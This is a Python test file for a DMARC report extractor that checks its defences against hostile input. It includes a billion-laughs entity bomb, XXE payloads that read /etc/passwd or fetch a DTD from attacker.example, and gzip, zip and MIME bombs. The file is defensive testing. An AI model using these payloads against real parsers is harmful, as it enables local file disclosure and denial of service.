"""Hostile inputs: each is refused with its own reason, quickly, without inflating or expanding anything."""

from __future__ import annotations

import time
import zlib
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from dmarcwatch.reports import DEFAULT_LIMITS, ExtractionResult, Limits, ReasonCode, extract_reports

from . import factory

# Generous against a loaded CI machine, yet far below what expanding or inflating any of these would take.
FAST_SECONDS = 3.0


@contextmanager
def fast() -> Iterator[None]:
    started = time.perf_counter()
    yield
    elapsed = time.perf_counter() - started
    assert elapsed < FAST_SECONDS, f"took {elapsed:.2f}s"


def refused(raw: bytes, code: ReasonCode, limits: Limits | None = None) -> ExtractionResult:
    with fast():
        result = extract_reports(raw) if limits is None else extract_reports(raw, limits=limits)
    assert result.quarantine is not None, "accepted"
    assert result.quarantine.code == code, result.quarantine
    assert result.reports == []
    return result


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE feedback [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<feedback><report_metadata><org_name>&lol9;</org_name></report_metadata></feedback>
"""


def xxe(system_id: str) -> bytes:
    body = factory.metadata(org_name="&xxe;") + factory.record(1)
    head = f'<?xml version="1.0"?>\n<!DOCTYPE feedback [<!ENTITY xxe SYSTEM "{system_id}">]>\n'
    return factory.report(body=body, head=head)


# -- entities


def test_billion_laughs() -> None:
    refused(BILLION_LAUGHS, ReasonCode.XML_ENTITIES_FORBIDDEN)


@pytest.mark.parametrize("system_id", ["file:///etc/passwd", "http://attacker.example/evil.dtd"])
def test_external_entity(system_id: str) -> None:
    result = refused(xxe(system_id), ReasonCode.XML_ENTITIES_FORBIDDEN)
    assert "root:" not in result.model_dump_json()


def test_external_parameter_entity() -> None:
    head = '<?xml version="1.0"?><!DOCTYPE f [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>'
    refused(factory.report(head=head), ReasonCode.XML_ENTITIES_FORBIDDEN)


def test_doctype_after_comments_and_processing_instructions() -> None:
    head = '<?xml version="1.0"?>\n<!-- a <!DOCTYPE in a comment is text -->\n<?pi x?>\n<!DOCTYPE feedback>\n'
    refused(factory.report(head=head), ReasonCode.XML_ENTITIES_FORBIDDEN)


def test_doctype_in_utf16_is_seen() -> None:
    document = BILLION_LAUGHS.decode().replace('"1.0"?>', '"1.0" encoding="UTF-16"?>')
    refused(document.encode("utf-16"), ReasonCode.XML_ENTITIES_FORBIDDEN)


def test_doctype_inside_an_archive_inside_a_mail() -> None:
    raw = factory.mail(("r.zip", "application/zip", factory.zipped(("r.xml", factory.gz(BILLION_LAUGHS)))))
    result = refused(raw, ReasonCode.XML_ENTITIES_FORBIDDEN)
    assert result.quarantine is not None
    assert "member 'r.xml' (gunzipped)" in (result.quarantine.location or "")


def test_a_document_cannot_declare_a_decompressor_as_its_encoding() -> None:
    head = '<?xml version="1.0" encoding="zlib_codec"?>\n'
    refused(factory.report(head=head), ReasonCode.XML_UNSUPPORTED_ENCODING)


# -- compression


def test_default_caps_admit_the_largest_real_reports() -> None:
    # 100,000+ records are tens to a couple of hundred MB of XML, compressing up to ~100:1.
    assert DEFAULT_LIMITS.max_decompressed_bytes >= 200_000_000
    assert DEFAULT_LIMITS.max_compression_ratio >= 200
    assert DEFAULT_LIMITS.max_xml_elements >= 100_000 * 40


def test_the_bomb_builder_inflates_to_what_it_says() -> None:
    # Without its trailer: the CRC and size there describe only what the compressor saw (see factory).
    inflated = zlib.decompressobj(wbits=31).decompress(factory.gzip_bomb(3)[:-8])
    assert inflated.startswith(factory.BOMB_PREFIX + factory.BOMB_UNIT)
    assert len(inflated) > 3 * 1_000_000


def test_gzip_bomb_is_stopped_by_its_ratio() -> None:
    bomb = factory.gzip_bomb(1024)  # 1.4 MB that would inflate to 1 GB
    result = refused(bomb, ReasonCode.COMPRESSION_RATIO_EXCEEDED)
    assert result.quarantine is not None
    assert "bytes from" in result.quarantine.message


def test_nested_gzip_bomb_of_a_few_kilobytes() -> None:
    bomb = factory.gz(factory.gzip_bomb(1024))
    assert len(bomb) < 10_000
    refused(bomb, ReasonCode.COMPRESSION_RATIO_EXCEEDED)


def test_gzip_bomb_with_ratio_check_off_is_stopped_by_size() -> None:
    limits = Limits(max_compression_ratio=1e9, max_decompressed_bytes=16 << 20)
    refused(factory.gzip_bomb(1024), ReasonCode.DECOMPRESSED_SIZE_EXCEEDED, limits)


def test_gzip_of_zeros_is_not_inflated_past_its_first_bytes() -> None:
    zeros = factory.gzip_bomb(1024, prefix=b"", unit=bytes(4096))
    refused(zeros, ReasonCode.NOT_A_REPORT)


def test_zip_bomb_declaring_its_size() -> None:
    refused(factory.zip_bomb(1024), ReasonCode.DECOMPRESSED_SIZE_EXCEEDED)


def test_zip_bomb_under_the_size_cap_is_stopped_by_its_ratio() -> None:
    refused(factory.zip_bomb(200), ReasonCode.COMPRESSION_RATIO_EXCEEDED)


def test_zip_bomb_lying_about_its_size_is_cut_at_the_declared_size() -> None:
    refused(factory.zip_bomb(64, declared=1000), ReasonCode.ARCHIVE_CORRUPT)


def test_total_budget_across_members() -> None:
    report = factory.report(200)
    archive = factory.zipped(*((f"r{index}.xml", report) for index in range(5)))
    limits = Limits(max_total_decompressed_bytes=len(report) * 3)
    refused(archive, ReasonCode.DECOMPRESSED_SIZE_EXCEEDED, limits)


def test_nested_zip_depth() -> None:
    data = factory.report()
    for level in range(4):
        data = factory.zipped((f"level{level}.zip", data))
    refused(data, ReasonCode.NESTING_TOO_DEEP)


def test_nested_zip_within_the_cap_is_read() -> None:
    data = factory.report()
    for level in range(3):
        data = factory.zipped((f"level{level}.zip", data))
    assert len(extract_reports(data).reports) == 1


def test_too_many_zip_members() -> None:
    archive = factory.zipped(*((f"r{index}.xml", b"<x/>") for index in range(65)))
    refused(archive, ReasonCode.TOO_MANY_MEMBERS)


def test_encrypted_zip_member() -> None:
    archive = bytearray(factory.zipped(("r.xml", factory.report())))
    archive[6] |= 0x1  # local header flag: encrypted
    central = archive.index(b"PK\x01\x02")
    archive[central + 8] |= 0x1
    refused(bytes(archive), ReasonCode.ARCHIVE_ENCRYPTED)


# -- MIME


def test_ten_thousand_nested_mime_parts() -> None:
    refused(factory.nested_mime(10_000), ReasonCode.TOO_MANY_MIME_PARTS)


def test_mime_nesting_deeper_than_the_cap() -> None:
    refused(factory.nested_mime(40), ReasonCode.NESTING_TOO_DEEP)


def test_thousands_of_flat_mime_parts() -> None:
    parts = [b"--b\r\nContent-Type: text/plain\r\n\r\nx\r\n" for _ in range(5000)]
    raw = (
        b'From: a@example.com\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n'
        + b"".join(parts)
        + b"--b--\r\n"
    )
    refused(raw, ReasonCode.TOO_MANY_MIME_PARTS)


def test_mail_without_a_report() -> None:
    raw = factory.mail(
        ("logo.png", "image/png", b"\x89PNG\r\n\x1a\n" + bytes(100)), text="Hello, no report here."
    )
    result = refused(raw, ReasonCode.NO_REPORT_FOUND)
    assert [skipped.code for skipped in result.skipped] == [ReasonCode.NOT_A_REPORT, ReasonCode.NOT_A_REPORT]


def test_input_too_large() -> None:
    refused(factory.report(100), ReasonCode.INPUT_TOO_LARGE, Limits(max_input_bytes=1000))


# -- XML


@pytest.mark.parametrize("cut", [0.3, 0.6, 0.99])
def test_truncated_xml(cut: float) -> None:
    data = factory.report(50)
    refused(data[: int(len(data) * cut)], ReasonCode.XML_TRUNCATED)


def test_truncated_gzip() -> None:
    data = factory.gz(factory.report(50))
    refused(data[: len(data) // 2], ReasonCode.ARCHIVE_TRUNCATED)


def test_text_longer_than_the_cap() -> None:
    refused(factory.report(body=factory.metadata(org_name="x" * 10_000)), ReasonCode.TEXT_TOO_LONG)


def test_huge_text_is_refused_before_it_is_buffered() -> None:
    # 256 MB of text inside one element, gzipped: refused within the first pieces, not at the end tag.
    bomb = factory.gzip_bomb(256, prefix=b"<feedback><org_name>", unit=b"x" * 4096)
    refused(bomb, ReasonCode.TEXT_TOO_LONG, Limits(max_compression_ratio=1e9))


def test_deeply_nested_xml() -> None:
    refused(b"<feedback>" + b"<a>" * 100_000, ReasonCode.XML_TOO_DEEP)


def test_element_count() -> None:
    refused(factory.report(100), ReasonCode.ELEMENT_COUNT_EXCEEDED, Limits(max_xml_elements=500))


def test_html_doctype_is_not_a_report_but_other_parts_still_count() -> None:
    html = b"<!DOCTYPE html>\n<html><body><p>Your report is attached.</p></body></html>"
    report = factory.gz(factory.report(3))
    result = extract_reports(
        factory.mail(("body.html", "text/html", html), ("r.xml.gz", "application/gzip", report))
    )
    assert result.ok
    assert len(result.reports) == 1
    assert ReasonCode.NOT_A_REPORT in {skipped.code for skipped in result.skipped}


def test_a_wrapper_without_a_report_is_given_up_early() -> None:
    document = b"<root>" + b"<item>x</item>" * 100_000 + factory.report(1).split(b"?>", 1)[1] + b"</root>"
    refused(document, ReasonCode.NOT_A_REPORT)


def test_thousands_of_misplaced_xml_declarations_in_the_prolog() -> None:
    head = '<?xml version="1.0"?><!-- c -->' + '<?xml version="1.0"?>' * 3000 + "\n"
    result = extract_reports(factory.report(1, head=head))
    assert result.ok
    assert result.reports[0].kind == "aggregate"
    assert result.reports[0].metadata.errors == ["XML declaration after a comment ignored"]


def test_element_names_spelled_in_thousands_of_ways_cost_no_more_than_their_notes() -> None:
    spellings = [
        "".join(c.upper() if bit & (1 << i) else c for i, c in enumerate("envelope_to"))
        for bit in range(2048)
    ]
    records = "".join(
        factory.record(index).replace("</identifiers>", f"<{name}>x.example</{name}></identifiers>")
        for index, name in enumerate(spellings)
    )
    with fast():
        result = extract_reports(factory.report(body=factory.metadata() + records))
    (report,) = result.reports
    assert report.kind == "aggregate"
    assert len(report.records) == 2048
    assert {record.envelope_to for record in report.records} == {"x.example"}
    assert len(report.metadata.errors) == DEFAULT_LIMITS.max_report_errors
